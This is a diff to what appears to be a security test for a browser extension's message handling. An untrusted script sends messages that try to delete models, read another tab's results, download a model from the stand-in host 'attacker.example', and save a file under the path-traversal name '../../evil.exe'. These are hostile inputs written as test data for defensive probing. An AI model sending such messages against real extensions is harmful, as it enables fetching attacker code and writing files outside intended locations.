@@ -12,6 +12,9 @@ UNTRUSTED = """async ({ privateUrl, tabId, ownResult, otherResult }) => {
   out.resultUrlOther = await send({ target: 'offscreen', type: 'result-url', data: { resultId: otherResult, tabId } });
   out.ping = await send({ target: 'offscreen', type: 'ping', data: {} });
   out.deleteModels = await send({ target: 'offscreen', type: 'delete-models', data: {} });
+  // A download on purpose from an attacker's source, and a look at what is on the device.
+  out.downloadModel = await send({ target: 'offscreen', type: 'download-model', data: { engine: 'medium', modelSource: 'https://attacker.example/' } });
+  out.modelStatus = await send({ target: 'offscreen', type: 'model-status', data: {} });
   out.saveBytes = await send({ target: 'background', type: 'save', data: { dataUrl: 'data:image/png;base64,iVBORw0KGgo=', filename: '../../evil.exe' } });
   out.saveUnknown = await send({ target: 'background', type: 'save', data: { resultId: uuid() } });
   out.saveOtherTab = await send({ target: 'background', type: 'save', data: { resultId: otherResult } });
